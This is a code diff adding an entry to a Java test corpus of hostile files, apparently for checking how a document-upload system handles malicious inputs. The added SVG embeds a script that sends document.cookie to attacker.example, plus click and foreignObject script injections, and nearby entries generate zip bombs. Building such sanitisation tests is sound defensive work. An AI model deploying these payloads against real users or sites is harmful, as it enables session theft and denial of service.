@@ -162,6 +162,14 @@ public final class HostileCorpus {
     meta.put("HX-26", new String[] {"OTHER", FORMULA_ORGANISATION, "BE", "en", "PUBLIC"});
     put("HX-ZIP-DEEP", "nested-20-levels.zip", deeplyNestedZip(20));
     put("HX-ZIP-RENAMED", "renamed-inner-archives.zip", zipBomb("annex-%d.docx", "data-%d.dat"));
+    put("HX-SVG-SCRIPT", "script-and-style.svg", utf8("<?xml version=\"1.0\"?>\n"
+        + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:h=\"http://www.w3.org/1999/xhtml\" width=\"400\">"
+        + "<style>text { font: 12px sans-serif } /* SVG-STYLE-PAYLOAD */</style>"
+        + "<script type=\"text/javascript\"><![CDATA[fetch('https://attacker.example/steal?c=' + document.cookie); "
+        + "document.title = 'INJECTED-BY-SVG-SCRIPT';]]></script>"
+        + "<text x=\"0\" y=\"20\" onclick=\"alert('click')\">" + TEXT + "</text>"
+        + "<foreignObject width=\"400\" height=\"40\"><h:div><h:script>alert('INJECTED-BY-SVG-SCRIPT')</h:script>"
+        + "<h:p>Small providers need proportionate obligations.</h:p></h:div></foreignObject></svg>\n"));
     put("HX-PDF-NO-PAGES", "no-pages.pdf", textPdf(TEXT, 0));
     put("HX-ENC-1250", "windows-1250.txt", encoded(CENTRAL_EUROPEAN, Charset.forName("windows-1250")));
     personalData();
